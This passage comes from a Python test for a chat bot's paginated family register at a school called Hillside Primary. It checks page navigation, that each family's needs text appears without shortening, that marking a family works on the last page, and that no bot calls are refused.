    assert pages > 1 and f"Page {pages} of {pages}." in rachel.last.text
    assert sorted(seen) == [f"HS-{n:03}" for n in range(families)]
    for n in range(families):  # every family's needs, never shortened, on its own page
        assert f"⚠️ {needs(n)}" in seen[f"HS-{n:03}"]

    # Marking a family on the last page keeps the register on that page.
    last = family_buttons[-1]
    await rachel.tap(last)
    assert f"✅ {last} (Hillside Primary)" in rachel.last.text
    assert f"Page {pages} of {pages}." in rachel.last.text
    await rachel.tap("◀ Previous")
    assert f"Page {pages - 1} of {pages}." in rachel.last.text
    refused = [c.method for c in bot.sandbox.calls if not c.ok and c.chat_id == RACHEL]
    assert refused == []
